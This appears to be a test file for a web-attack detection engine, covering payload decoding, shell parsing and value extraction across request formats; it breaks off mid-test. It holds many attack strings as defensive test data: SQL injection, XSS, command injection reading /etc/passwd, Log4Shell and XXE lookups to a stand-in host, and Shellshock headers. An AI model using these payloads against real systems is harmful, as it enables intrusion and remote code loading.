import fc from 'fast-check';
import { createAnalysisEngine, DEFAULT_LIMITS, type MatchEventRecord } from '@/runtime/analyzer/engine';
import { buildExchange } from '@/test/fixtures/traffic';
import {
  Detector,
  InspectedValue,
  inspectValue,
  LEVEL_THRESHOLDS,
  MAX_CHARS_PER_REQUEST,
  MAX_HITS,
  ruleScore,
  type Rule,
  type RulePack,
} from '@/runtime/analyzer/engine/detection';
import { base64Text, decodeValue, MAX_VALUE_CHARS, shellForm } from '@/runtime/analyzer/engine/detection/decode';
import {
  collectValues,
  credentialValues,
  graphqlLiterals,
  isGraphqlDocument,
  looksOpaque,
  contentLineValues,
  MAX_VALUES_PER_REQUEST,
  uploadMetadataValues,
  xhtmlFragments,
  xmlValues,
} from '@/runtime/analyzer/engine/detection/placements';
import { protocolHits } from '@/runtime/analyzer/engine/detection/rules/protocol';
import { prototypePathHits } from '@/runtime/analyzer/engine/detection/rules/prototype-pollution';
import { sessionFixationHits } from '@/runtime/analyzer/engine/detection/rules/session-fixation';
import { shellCommands } from '@/runtime/analyzer/engine/detection/shell';
import { viewRequest, type RequestView } from '@/runtime/analyzer/engine/message-view';
import { loadOwnCases } from '@/test/fixtures/detection-cases';
import { scoreCorpora } from '@/test/bench/corpora/score';

const context = { sensorId: 'sensor-1', sensorTags: [] };
const view = (spec: Parameters<typeof buildExchange>[0]): RequestView => viewRequest(buildExchange(spec), DEFAULT_LIMITS);
const classesOf = (value: string): string[] => [...new Set(inspectValue(new InspectedValue('query', 'q', value)).map((r) => r.classification))];

describe('decoding layer', () => {
  it('undoes every encoding attackers layer on a payload', () => {
    expect(decodeValue('%252e%252e%252f')).toBe('../');
    expect(decodeValue('%c0%ae%c0%ae%c0%af')).toBe('../');
    expect(decodeValue('%u002e%u002e%u2215')).toBe('..\u2215'.replace('\u2215', '/'));
    expect(decodeValue('&#x3C;script&#62;')).toBe('<script>');
    expect(decodeValue('&#0000060;')).toBe('<');
    expect(decodeValue('\\x3cimg\\u0020src=x\\u{3e}')).toBe('<img src=x>');
    expect(decodeValue('..%bg%qf')).toBe('..%bg%qf');
    expect(decodeValue('ⒸⒶⓉ ／etc／passwd')).toBe('CAT /etc/passwd');
  });

  it('terminates and stays bounded on adversarial input', () => {
    const layered = fc.tuple(
      fc.string({ unit: fc.constantFrom('%', '2', '5', 'u', '&', '#', 'x', ';', '\\', '0', 'c', 'a', 'f', 'e'), maxLength: 3000 }),
      fc.integer({ min: 0, max: 6 }),
    );
    fc.assert(
      fc.property(layered, ([s, rounds]) => {
        let value = s;
        for (let i = 0; i < rounds; i++) value = encodeURIComponent(value);
        const out = decodeValue(value);
        return typeof out === 'string' && out.length <= MAX_VALUE_CHARS && out.length <= Math.max(value.length, 1) * 18;
      }),
    );
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 5000 }), (s) => decodeValue(s).length <= MAX_VALUE_CHARS));
    expect(decodeValue('%2525'.repeat(100_000)).length).toBeLessThanOrEqual(MAX_VALUE_CHARS);
  });

  it('reads shell obfuscation as the shell would', () => {
    expect(shellForm('c\'a\'t /e"t"c/pa\\sswd')).toBe('cat /etc/passwd');
    expect(shellForm(';cat${ifs}/etc/passwd')).toBe(';cat /etc/passwd');
    expect(shellForm('{cat,/etc/passwd}')).toBe('cat /etc/passwd');
    expect(shellForm('127.0.0.1;ca\\\nt /et\\\r\nc/pa\\\nsswd')).toBe('127.0.0.1;cat /etc/passwd');
    expect(shellForm('png;ca$u""t /et$u""c/pas$u""swd')).toBe('png;cat /etc/passwd');
    expect(shellForm('w^h^o^a^m^i')).toBe('whoami');
  });
});

describe('shell grammar', () => {
  it('finds commands after separators, in substitutions and as whole command lines', () => {
    expect(shellCommands('x; id').map((c) => [c.name, c.start])).toEqual([['id', 'separator']]);
    expect(shellCommands('a`uname -a`').map((c) => [c.name, c.start])).toEqual([['uname', 'substitution']]);
    expect(shellCommands('$(curl http://x.example/a)')[0]).toMatchObject({ name: 'curl', start: 'substitution', commandArgs: true });
    expect(shellCommands('ping -n 3 127.0.0.1')[0]).toMatchObject({ name: 'ping', start: 'value-start', commandArgs: true });
    expect(shellCommands('idea; identity')).toEqual([]);
  });

  it('flags injections in sh, cmd and PowerShell, and leaves prose alone', () => {
    for (const attack of [
      '1;id',
      '| whoami',
      '&& dir c:\\',
      '`ls -la /`',
      '$(sleep 5)',
      'x|type c:\\windows\\win.ini',
      '; powershell -enc SQBFAFgA',
      '|| net user',
      '& ping -n 30 127.0.0.1 &',
      'a;cat$IFS/etc/passwd',
    ]) {
      expect({ attack, classes: classesOf(attack) }).toEqual({ attack, classes: expect.arrayContaining(['CommandInjection']) });
    }
    for (const prose of [
      'Tom & Jerry',
      'rock; paper; scissors',
      'salt | pepper',
      'R&D at the lab',
      'news; more info later',
      'he said "hi"; then left',
      'at 5pm | meeting',
    ]) {
      expect({ prose, classes: classesOf(prose) }).toEqual({ prose, classes: [] });
    }
  });

  it('does not read random-token blobs as shell input', () => {
    const blob =
      '2;0;4403767;3683380;3,45,0,1,1,36;.R@xx`TLJ0w,hnf7%eNj] +@1R5@o9:EsC7qufmZTI6Q+7QLTI[b<{*h3AV623v ^&tg/l;WJ6-W&|`owF1AHGT~b^xsB/9H9V]BXMdKg^`,vq:qOVTv*al7{Z?NbCNnO%}|07SMVGM0u4<;m$(QZ2R}>l^b[=a0rMMLif,*7FK0r.o$sz|U[g+`';
    expect(new InspectedValue('body_json', 'sensor_data', blob).noisy).toBe(true);
    expect(classesOf(blob)).not.toContain('CommandInjection');
  });
});

describe('placements', () => {
  const locations = (request: RequestView): string[] => collectValues(request).map((v) => `${v.location}:${v.name}=${v.raw}`);

  it('reads GraphQL argument literals, not the document syntax', () => {
    const document = 'query Product($id: ID!) {\n  product(id: "x\' OR 1=1--", lang: "en") {\n    id\n    name\n  }\n}';
    expect(isGraphqlDocument(document)).toBe(true);
    expect(graphqlLiterals(document)).toEqual([
      { name: 'id', value: "x' OR 1=1--" },
      { name: 'lang', value: 'en' },
    ]);
    const request = view({
      method: 'POST',
      target: '/graphql',
      requestHeaders: [['Content-Type', 'application/json']],
      requestBody: JSON.stringify({ query: document, variables: { id: '1' } }),
    });
    expect(locations(request)).toEqual(expect.arrayContaining(["body_graphql:id=x' OR 1=1--", 'body_json:variables.id=1']));
    expect(locations(request).some((l) => l.includes('product('))).toBe(false);
  });

  it('reads only real GraphQL documents as GraphQL: a payload that starts with { is a value', () => {
    for (const document of [
      '{ me { id name } }',
      '\ufeffquery { me { id } }',
      'query Q($id: ID! = "a{b}", $n: Int = -1) { user(id: $id, filter: {tag: "x", any: {}}) @include(if: true) { ...F, ... on User { id } } }\nfragment F on User { name }',
      '# a comment with \' and ; inside\nmutation { add(text: """block with "quotes" and \\""" inside""") { ok } }',
    ]) {
      expect({ document, graphql: isGraphqlDocument(document) }).toEqual({ document, graphql: true });
    }
    for (const payload of [
      '{{7*7}}{{config.__class__}}',
      '{"$where": "sleep(5000)"}',
      "{ a } ' OR 1=1--",
      '{ a(x: "unterminated\n") }',
      '{ a } <script>alert(1)</script>',
      '{ $(id) }',
    ]) {
      expect({ payload, graphql: isGraphqlDocument(payload) }).toEqual({ payload, graphql: false });
    }
    // An escaped triple quote does not end a block string: what follows is still the string's.
    const block = '{ a(x: """\\""" \' UNION SELECT password FROM users-- """) { id } }';
    expect(isGraphqlDocument(block)).toBe(true);
    expect(graphqlLiterals(block)).toEqual([{ name: 'x', value: '""" \' UNION SELECT password FROM users-- ' }]);
    const events = createAnalysisEngine({ catalog: false }).analyze(
      buildExchange({
        id: 'ssti-body',
        method: 'POST',
        target: '/render',
        requestHeaders: [['Content-Type', 'text/plain']],
        requestBody: '{{7*7}}{{config.__class__}}',
      }),
      context,
    );
    expect(events.find((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')?.matches.map((m) => m.classification)).toContain('TemplateInjection');
  });

  it('reads a text/plain body that holds JSON (what navigator.sendBeacon sends) as JSON', () => {
    const request = view({
      method: 'POST',
      target: '/beacon',
      requestHeaders: [['Content-Type', 'text/plain;charset=UTF-8']],
      requestBody: '{"event":"view","page":{"q":"x\' OR 1=1--"}}',
    });
    expect(request.body.kind).toBe('json');
    expect(locations(request)).toEqual(expect.arrayContaining(["body_json:page.q=x' OR 1=1--", 'body_json:event=view']));
    const prose = view({ method: 'POST', target: '/note', requestHeaders: [['Content-Type', 'text/plain']], requestBody: '[draft] see {the} notes' });
    expect(locations(prose)).toContain('body:=[draft] see {the} notes');
  });

  it('reads from Authorization what no credential is: a malformed credential, JWT header fields, auth-params but the proofs', () => {
    const jwtHeader = (fields: object) => Buffer.from(JSON.stringify(fields)).toString('base64url');
    const kid = jwtHeader({ alg: 'HS256', kid: "x' UNION SELECT 'secret' --", typ: 'JWT' });
    expect(credentialValues("Bearer ' OR 1=1--")).toEqual([{ name: '', value: "' OR 1=1--" }]);
    // Quotes are token characters, but no auth-param is named with them: read whole (FortiWeb CVE-2025-25257).
    expect(credentialValues("Bearer AAAAAA'or'1'='1")).toEqual([{ name: '', value: "AAAAAA'or'1'='1" }]);
    expect(credentialValues('${jndi:ldap://203.0.113.9/a}')).toEqual([{ name: '', value: '${jndi:ldap://203.0.113.9/a}' }]);
    expect(credentialValues(`Bearer ${kid}.eyJzdWIiOiIxIn0.c2ln`)).toEqual([
      { name: '(jwt header).alg', value: 'HS256' },
      { name: '(jwt header).kid', value: "x' UNION SELECT 'secret' --" },
      { name: '(jwt header).typ', value: 'JWT' },
    ]);
    // The shape the sensor sends: the header segment kept, the rest redacted.
    expect(credentialValues(`Bearer ${kid}.redacted:k1:0123456789abcdef:300`).map((c) => c.name)).toEqual([
      '(jwt header).alg',
      '(jwt header).kid',
      '(jwt header).typ',
    ]);
    expect(credentialValues('Bearer redacted:k1:0123456789abcdef:40')).toEqual([]);
    expect(credentialValues('Digest username="admin\' --", realm="api", nonce="n1", uri="/x", response="6629fae4"')).toEqual([
      { name: '(username)', value: "admin' --" },
      { name: '(realm)', value: 'api' },
      { name: '(uri)', value: '/x' },
    ]);
    // A bare token (an API key without a scheme) is read like any credential.
    expect(credentialValues('k-123')).toEqual([{ name: '', value: 'k-123' }]);
    expect(credentialValues('')).toEqual([]);
    const events = createAnalysisEngine({ catalog: false }).analyze(
      buildExchange({ id: 'kid', method: 'GET', target: '/api/me', requestHeaders: [['Authorization', `Bearer ${kid}.redacted:k1:0123456789abcdef:300`]] }),
      context,
    );
    const match = events.find((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')?.matches[0];
    expect([match?.classification, match?.location, match?.parameter]).toEqual(['SqlInjection', 'header', 'Authorization (jwt header).kid']);
  });

  it("reads a multipart part's name as a form field name, and a JSON part as JSON", () => {
    const boundary = 'XyZ';
    const body = [
      `--${boundary}\r\nContent-Disposition: form-data; name="<svg onload=alert(1)>"\r\n\r\nx\r\n`,
      `--${boundary}\r\nContent-Disposition: form-data; name="doc[../../x]"; filename="a.txt"\r\n\r\ndata\r\n`,
      `--${boundary}\r\nContent-Disposition: form-data; name="meta"\r\nContent-Type: application/json\r\n\r\n{"title":"t","tags":["a"]}\r\n`,
      `--${boundary}--\r\n`,
    ].join('');
    const request = view({
      method: 'POST',
      target: '/upload',
      requestHeaders: [['Content-Type', `multipart/form-data; boundary=${boundary}`]],
      requestBody: body,
    });
    expect(locations(request)).toEqual(
      expect.arrayContaining([
        'body_form_name:<svg onload=alert(1)>=<svg onload=alert(1)>',
        'body_form_name:doc[../../x]=doc[../../x]',
        'multipart_filename:doc[../../x].filename=a.txt',
        'body_json:meta.title=t',
        'body_json:meta.tags[]=a',
      ]),
    );
    expect(locations(request).some((l) => l.startsWith('body_multipart:meta='))).toBe(false);
  });

  it("decodes a form field as its part's head says: base64, quoted-printable, a UTF-16 or legacy charset", () => {
    const boundary = 'QpB';
    const part = (head: string, body: string | Buffer): Buffer =>
      Buffer.concat([Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="f"\r\n${head}\r\n`), Buffer.from(body), Buffer.from('\r\n')]);
    const field = (head: string, body: string | Buffer) =>
      locations(
        view({
          method: 'POST',
          target: '/profile',
          requestHeaders: [['Content-Type', `multipart/form-data; boundary=${boundary}`]],
          requestBody: Buffer.concat([part(head, body), Buffer.from(`--${boundary}--\r\n`)]),
        }),
      ).filter((l) => l.startsWith('body_multipart:'));
    const markup = '"><img src=x onerror=alert(1)>';
    expect(field('Content-Transfer-Encoding: quoted-printable\r\n', '=22=3E=3Cimg src=3Dx oner=\r\nror=3Dalert(1)=3E')).toEqual([`body_multipart:f=${markup}`]);
    expect(field('Content-Transfer-Encoding: base64\r\n', Buffer.from(markup).toString('base64'))).toEqual([`body_multipart:f=${markup}`]);
    expect(field('Content-Type: text/plain; charset=UTF-16LE\r\n', Buffer.from(markup, 'utf16le'))).toEqual([`body_multipart:f=${markup}`]);
    expect(field('Content-Type: text/plain; charset=windows-1251\r\n', Buffer.from([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2]))).toEqual(['body_multipart:f=Привет']);
    // A part with no such head stays as sent, `=3C` and all.
    expect(field('', 'a =3C b')).toEqual(['body_multipart:f=a =3C b']);
  });

  it('reads a chunked body trailer field as a header (servers that merge trailers do)', () => {
    const request = view({
      method: 'POST',
      target: '/f',
      requestHeaders: [['Transfer-Encoding', 'chunked']],
      requestBody: 'a=1',
      requestTrailers: [['X-Note', '<script>x</script>']],
    });
    expect(locations(request)).toContain('header:X-Note (trailer)=<script>x</script>');
  });

  it('reads a text/plain body of name=value pairs as a form (URLSearchParams a script labelled so)', () => {
    const body = view({
      method: 'POST',
      target: '/f',
      requestHeaders: [['Content-Type', 'text/plain;charset=UTF-8']],
      requestBody: 'host=127.0.0.1+%7C+id&x=1',
    });
    expect(body.body.kind).toBe('form');
    expect(locations(body)).toContain('body_form:host=127.0.0.1 | id');
    const prose = view({ method: 'POST', target: '/f', requestHeaders: [['Content-Type', 'text/plain']], requestBody: 'Meeting notes: a=b is fine' });
    expect(prose.body.kind).toBe('text');
  });

  it('reads an unlabelled body of name=value pairs as a form, and unlabelled markup as text too', () => {
    const form = view({ method: 'POST', target: '/f', requestBody: 'a=1&b=%27%20OR%20%271%27%3D%271%27%20--' });
    expect(form.body.kind).toBe('form');
    expect(locations(form)).toContain("body_form:b=' OR '1'='1' --");
    const note = view({ method: 'POST', target: '/f', requestBody: 'see you at 5 = ok?\nbye' });
    expect(note.body.kind).toBe('text');
    const markup = view({
      method: 'POST',
      target: '/f',
      requestHeaders: [['Content-Type', 'application/octet-stream']],
      requestBody: '<img src=x onerror=alert(1)>',
    });
    expect(locations(markup)).toEqual(expect.arrayContaining(['xml_document:=<img src=x onerror=alert(1)>', 'body:=<img src=x onerror=alert(1)>']));
    const xml = view({ method: 'POST', target: '/f', requestHeaders: [['Content-Type', 'text/xml']], requestBody: '<a>1</a>' });
    expect(locations(xml).some((l) => l.startsWith('body:'))).toBe(false);
  });

  it('reads a JSON body whose keys repeat as text too: the parse keeps only the last value', () => {
    const shadowed = view({
      method: 'POST',
      target: '/j',
      requestHeaders: [['Content-Type', 'application/json']],
      requestBody: '{"q":"<svg onload=alert(1)>","q":"x"}',
    });
    expect(locations(shadowed)).toEqual(expect.arrayContaining(['body_json:q=x', 'body:={"q":"<svg onload=alert(1)>","q":"x"}']));
    const events = createAnalysisEngine({ catalog: false }).analyze(
      buildExchange({
        method: 'POST',
        target: '/j',
        requestHeaders: [['Content-Type', 'application/json']],
        requestBody: '{"q":"<svg onload=alert(1)>","q":"x"}',
      }),
      context,
    );
    expect(events.find((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')?.matches.map((m) => m.classification)).toEqual(
      expect.arrayContaining(['Xss']),
    );
    // A key ending in an escaped backslash does not hide the repeat.
    const escaped = view({
      method: 'POST',
      target: '/j',
      requestHeaders: [['Content-Type', 'application/json']],
      requestBody: '{"q":"<svg onload=alert(1)>","q":"x","z\\\\":0}',
    });
    expect(locations(escaped).some((l) => l.startsWith('body:'))).toBe(true);
    // Keys that do not repeat, values holding an escaped quote or colons, are no reason to.
    for (const body of ['{"q":"x","r":{"q":"a\\":b"}}', '{"ip":"::1","emoji":":smile:"}']) {
      const plain = view({ method: 'POST', target: '/j', requestHeaders: [['Content-Type', 'application/json']], requestBody: body });
      expect({ body, whole: locations(plain).some((l) => l.startsWith('body:')) }).toEqual({ body, whole: false });
    }
  });

  it('reads XML text and attributes as values and the document for XXE', () => {
    expect(xmlValues('<a b="1"><c>two</c><![CDATA[<three>]]></a>')).toEqual([
      { name: 'a@b', value: '1' },
      { name: 'c', value: 'two' },
      { name: 'c', value: '<three>' },
    ]);
    // A parser joins an element's text, CDATA sections and what comments split.
    expect(xmlValues("<t><![CDATA[x' UNION]]><![CDATA[ SELECT 1#]]></t><u>UN<!-- -->ION</u>")).toEqual([
      { name: 't', value: "x' UNION SELECT 1#" },
      { name: 'u', value: 'UNION' },
    ]);
    const request = view({ method: 'POST', target: '/soap', requestHeaders: [['Content-Type', 'text/xml']], requestBody: '<order><id>5</id></order>' });
    expect(locations(request)).toEqual(expect.arrayContaining(['xml_document:=<order><id>5</id></order>', 'body_xml:id=5']));
  });

  it('reads the XHTML an XML document carries (a FHIR narrative) as markup, each fragment to its own end tag', () => {
    const narrative = '<div xmlns="http://www.w3.org/1999/xhtml"><div><p>Summary</p></div><script>steal()</script></div>';
    expect(xhtmlFragments(`<Patient xmlns="http://hl7.org/fhir"><text>${narrative}</text><div>x</div></Patient>`)).toEqual([
      { name: 'div (xhtml)', value: narrative },
    ]);
    // A prefix bound to XHTML, a fragment closed at once, one never closed, and documents with none.
    expect(xhtmlFragments('<a><h:p xmlns:h="http://www.w3.org/1999/xhtml" class="x">t</h:p><b/></a>')).toEqual([
      { name: 'h:p (xhtml)', value: '<h:p xmlns:h="http://www.w3.org/1999/xhtml" class="x">t</h:p>' },
    ]);
    expect(xhtmlFragments("<e><div xmlns='http://www.w3.org/1999/xhtml'/></e>")).toEqual([
      { name: 'div (xhtml)', value: "<div xmlns='http://www.w3.org/1999/xhtml'/>" },
    ]);
    expect(xhtmlFragments('<e><div xmlns="http://www.w3.org/1999/xhtml"><p>cut')).toEqual([
      { name: 'div (xhtml)', value: '<div xmlns="http://www.w3.org/1999/xhtml"><p>cut' },
    ]);
    expect(xhtmlFragments('<order xmlns="urn:example"><id>5</id></order>')).toEqual([]);
    const request = view({
      method: 'POST',
      target: '/fhir/DocumentReference',
      requestHeaders: [['Content-Type', 'application/fhir+xml']],
      requestBody: `<DocumentReference xmlns="http://hl7.org/fhir"><text>${narrative}</text></DocumentReference>`,
    });
    expect(locations(request)).toContain(`body_xml:div (xhtml)=${narrative}`);
  });

  it('reads each property of an iCalendar or vCard body: unfolded, unescaped, with its parameters', () => {
    const card = [
      'BEGIN:VCARD',
      'VERSION:2.1',
      'item1.URL;TYPE=WORK:https://example.com/a',
      'NOTE;ENCODING=QUOTED-PRINTABLE:caf=C3=A9 =',
      'au lait',
      'ORGANIZER;CN="Doe: Jane":mailto:jane@example.com',
      'DESCRIPTION:line one\\nline two\\, still\\; \\\\ end',
      'END:VCARD',
    ].join('\r\n');
    expect(contentLineValues(card)).toEqual([
      { name: 'URL;TYPE', value: 'WORK' },
      { name: 'URL', value: 'https://example.com/a' },
      { name: 'NOTE;ENCODING', value: 'QUOTED-PRINTABLE' },
      { name: 'NOTE', value: 'caf\u00e9 au lait' },
      { name: 'ORGANIZER;CN', value: 'Doe: Jane' },
      { name: 'ORGANIZER', value: 'mailto:jane@example.com' },
      { name: 'DESCRIPTION', value: 'line one\nline two, still; \\ end' },
    ]);
    const event = view({
      method: 'PUT',
      target: '/dav/calendars/ann/home/e1.ics',
      requestHeaders: [['Content-Type', 'text/calendar; charset=utf-8']],
      requestBody: 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Standup\r\nURL:javascript:alert(1)\r\nEND:VEVENT\r\nEND:VCALENDAR',
    });
    expect(locations(event)).toEqual(expect.arrayContaining(['body:SUMMARY=Standup', 'body:URL=javascript:alert(1)']));
  });

  it('unwraps base64 of UTF-8 text in another script, not binary data that happens to be valid UTF-8 for a few bytes', () => {
    const profile = '{"naam":"राहुल","city":"Mumbai","lang":"hi-IN"}';
    expect(base64Text(Buffer.from(profile).toString('base64'))).toBe(profile);
    // Mostly bytes past ASCII: text of another script alone is no payload wrapper worth reading.
    expect(base64Text(Buffer.from('राहुल शर्मा कुमार').toString('base64'))).toBeUndefined();
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 12, maxLength: 96 }), (bytes) => {
        const text = base64Text(Buffer.from(bytes).toString('base64'));
        if (text !== undefined) expect(Buffer.from(bytes).toString(text === Buffer.from(bytes).toString('latin1') ? 'latin1' : 'utf8')).toBe(text);
      }),
    );
  });

  it('unwraps unpadded base64 of a JSON object (a JWT-like state token) even without a URL-safe character, and no other unpadded base64', () => {
    const token = '{"path":"../../../../etc/passwd","exp":1999999999}';
    const unpadded = Buffer.from(token).toString('base64').replace(/=+$/, '');
    expect(unpadded).not.toMatch(/[-_+/=]/);
    expect(base64Text(unpadded)).toBe(token);
    // The same unpadded alphabet without the `{"` lead is an identifier more often than base64.
    const prose = Buffer.from('GET the file listing now!').toString('base64').replace(/=+$/, '');
    expect(prose).not.toMatch(/[-_+/=]/);
    expect(base64Text(prose)).toBeUndefined();
  });

  it("reads a tus upload's Upload-Metadata values decoded from base64", () => {
    const b64 = (text: string) => Buffer.from(text).toString('base64');
    expect(uploadMetadataValues(`filename ${b64("a'.txt")},filetype ${b64('text/plain')},is_confidential`)).toEqual([
      { key: 'filename', value: "a'.txt" },
      { key: 'filetype', value: 'text/plain' },
    ]);
    expect(uploadMetadataValues('filename not*base64, ,x')).toEqual([]);
    const request = view({
      method: 'POST',
      target: '/files/',
      requestHeaders: [
        ['Tus-Resumable', '1.0.0'],
        ['Upload-Metadata', `filename ${b64('<b>x</b>.jpg')}`],
      ],
    });
    expect(locations(request)).toContain('header:Upload-Metadata filename=<b>x</b>.jpg');
  });

  it('reads a request body of an unknown non-media type as text when it is text (HL7 v2 over HTTP)', () => {
    const hl7 = 'MSH|^~\\&|LAB|QUEST|EHR|MERCY|202406111402||ORU^R01|L1|P|2.5.1\rOBX|1|TX|8251-1^Comment^LN||fasting sample||||||F';
    const asText = view({ method: 'POST', target: '/hl7/v2/results', requestHeaders: [['Content-Type', 'x-application/hl7-v2+er7']], requestBody: hl7 });
    expect(asText.body.kind).toBe('text');
    expect(locations(asText)).toContain(`body:=${hl7}`);
    const image = view({ method: 'PUT', target: '/avatar', requestHeaders: [['Content-Type', 'image/x-custom']], requestBody: 'plain letters' });
    expect(image.body.kind).toBe('binary');
  });

  it('reads names, JSON keys, file names, cookies, every non-protocol header, path segments and base64 copies', () => {
    const boundary = 'XyZ';
    const multipart = `--${boundary}\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nbody\r\n--${boundary}--\r\n`;
    const request = view({
      method: 'POST',
      target: '/item/%22%3Bid%22/details?a%5B%24ne%5D=1&q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D',
      requestHeaders: [
        ['Content-Type', `multipart/form-data; boundary=${boundary}`],
        ['Cookie', 'sid=abc; th=dark'],
        ['X-Custom', 'v'],
        ['Sec-Fetch-Mode', 'cors'],
      ],
      requestBody: multipart,
    });
    const found = locations(request);
    expect(found).toEqual(
      expect.arrayContaining([
        'path:=%22%3Bid%22',
        'query_name:a[$ne]=a[$ne]',
        'multipart_filename:f.filename=a.php',
        'cookie:sid=abc',
        'header:X-Custom=v',
        'query:q (base64)=<script>alert(1)</script>',
      ]),
    );
    expect(found.some((l) => l.startsWith('header:Sec-Fetch-Mode'))).toBe(false);
  });

  it('sniffs a request body whose application type names no kind read here, as an unlabelled one', () => {
    const post = (type: string, body: string | Buffer) =>
      locations(view({ method: 'POST', target: '/api', requestHeaders: [['Content-Type', type]], requestBody: body })).filter(
        (l) => !l.startsWith('path:') && !l.startsWith('header:'),
      );
    expect(post('application/json-rpc', '{"method":"user.get","params":{"selectRole":["roleid"]}}')).toContain('body_json:params.selectRole[]=roleid');
    // A CSP violation report is JSON anyone can post, and its fields end up on a dashboard.
    expect(post('application/csp-report', '{"csp-report":{"blocked-uri":"<img src=x onerror=alert(1)>"}}')).toContain(
      'body_json:csp-report.blocked-uri=<img src=x onerror=alert(1)>',
    );
    expect(post('application/vnd.acme.order+v1', 'order note: deliver to the back door')).toContain('body:=order note: deliver to the back door');
    expect(post('application/pdf', Buffer.from([0x25, 0x50, 0x44, 0x46, 0x2d, 0x31, 0x2e, 0x37, 0x0a, 0x00, 0xff, 0xfe, 0x01, 0x02]))).toEqual([]);
  });

  it("keeps an OData string literal's slashes in its path segment (SharePoint's folder URLs)", () => {
    const found = locations(view({ method: 'POST', target: "/sites/Eng/_api/web/GetFolderByServerRelativeUrl('/sites/Eng/Specs')/Files/add(url='a.md')" }));
    expect(found).toContain("path:=GetFolderByServerRelativeUrl('/sites/Eng/Specs')");
    expect(found.some((l) => l === "path:=Specs')")).toBe(false);
  });

  it('reads the strings of a JSON document a value unwraps to as values of their own, by their path', () => {
    const wrapped = encodeURIComponent(Buffer.from('{"host":"example.com|id","type":"MX","opts":{"tags":["a","b"]}}').toString('base64'));
    const found = locations(view({ method: 'GET', target: `/lookup?d=${wrapped}` }));
    expect(found).toEqual(expect.arrayContaining(['query:d (base64).host=example.com|id', 'query:d (base64).type=MX', 'query:d (base64).opts.tags[1]=b']));
    const detector = new Detector({ level: 1 });
    expect(detector.detect(view({ method: 'GET', target: `/lookup?d=${wrapped}` })).hits.map((h) => h.parameter)).toContain('d (base64).host');
    // Not JSON, or too long to be a wrapped value: the copy alone.
    const text = encodeURIComponent(Buffer.from('{"host": unquoted}').toString('base64'));
    expect(locations(view({ method: 'GET', target: `/lookup?d=${text}` })).filter((l) => l.includes('(base64)'))).toHaveLength(1);
  });

  it("reads a form's base64 whose '+' the form decoding turned into spaces, not words", () => {
    const xml = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "http://203.0.113.9/s.dtd"> %a;]><samlp:Response/>';
    const base64 = Buffer.from(xml).toString('base64');
    expect(base64).toContain('+');
    const read = (value: string) =>
      locations(
        view({ method: 'POST', target: '/sso', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: `SAMLResponse=${value}` }),
      );
    expect(read(base64)).toContain(`body_form:SAMLResponse (base64)=${xml}`);
    // ... also where a `+` was its last character (a trailing space after the decoding)
    const endsInPlus = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "http://203.0.113.9/s.dtd"> %a;]><samlp:Response  >';
    expect(Buffer.from(endsInPlus).toString('base64')).toMatch(/\+$/);
    expect(read(Buffer.from(endsInPlus).toString('base64'))).toContain(`body_form:SAMLResponse (base64)=${endsInPlus}`);
    expect(read('meet me at the cafe near the station tomorrow').some((l) => l.includes('(base64)'))).toBe(false);
    expect(read('meet me at the cafe near the station tomorrow ').some((l) => l.includes('(base64)'))).toBe(false);
  });

  it('reads a protocol header whose value is not what the header holds, and a Cookie header that is no pairs, whole', () => {
    const headers = (list: Array<[string, string]>) =>
      locations(view({ method: 'GET', target: '/', requestHeaders: list })).filter((l) => l.startsWith('header:'));
    expect(
      headers([
        ['Host', 'shop.example.com:8443'],
        ['If-Modified-Since', 'Sat, 05 Dec 2026 10:00:00 GMT'],
        ['If-None-Match', 'W/"5e1-abcDEF+/="'],
        ['Accept-Encoding', 'gzip, deflate, br, zstd'],
        ['Sec-Ch-Ua', '"Not)A;Brand";v="99", "Google Chrome";v="127"'],
        ['Cookie', 'sid=abc; theme=dark; flag'],
      ]),
    ).toEqual([]);
    expect(
      headers([
        ['Host', '${jndi:ldap://x.example/a}'],
        ['If-Modified-Since', '() { :; }; /bin/bash -c id'],
        ['Accept-Encoding', "gzip' OR 1=1--"],
        ['Cookie', '() { :; }; /bin/bash -c id'],
      ]),
    ).toEqual([
      'header:Host=${jndi:ldap://x.example/a}',
      'header:If-Modified-Since=() { :; }; /bin/bash -c id',
      "header:Accept-Encoding=gzip' OR 1=1--",
      'header:Cookie=() { :; }; /bin/bash -c id',
    ]);
  });

  it('reads a value written between stray % signs as ASP does, beside the value as it is', () => {
    const request = view({ method: 'GET', target: "/s?q=1'%20%o%r%20%1=%1%20--&p=50%off&d=%s%e%l%25e%25c%25t", host: 'a.example.com' });
    const found = locations(request);
    expect(found).toEqual(expect.arrayContaining(["query:q=1' %o%r %1=%1 --", "query:q (stray % removed)=1' or 1=1 --", 'query:d (stray % removed)=select']));
    // One stray sign is ordinary text, not a word spelled out.
    expect(found.some((l) => l.startsWith('query:p (stray'))).toBe(false);
    const events = createAnalysisEngine({ catalog: false }).analyze(
      buildExchange({ id: 'asp', method: 'GET', target: "/s?q=1'%20%o%r%20%1=%1%20--" }),
      context,
    );
    expect(events.find((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')?.matches.map((m) => m.parameter)).toContain('q (stray % removed)');
  });

  it('does not read a random-token blob between its % signs (its % signs are noise, not an ASP payload)', () => {
    const blob =
      '2;0;4403767;%3,45,%0,1:%R@xx`TLJ0w,h&{nf7%eNj] +@1R5@o9:EsC7q%ufmZTI6Q+7QLTI[b<{*h3AV623v ^&tg/l;WJ6-W&|`owF1AHGT~b^xsB/9H9V]BXMdKg^`,vq:qOVTv*al7{Z?NbCNnO%}|07SMVGM0u4<;m$(QZ2R}>l^b[=a0rMMLif,*7FK0r.o$sz|U[g+`';
    const request = view({
      method: 'POST',
      target: '/s',
      requestHeaders: [['Content-Type', 'application/json']],
      requestBody: JSON.stringify({ sensor_data: blob }),
    });
    expect(new InspectedValue('body_json', 'sensor_data', blob).noisy).toBe(true);
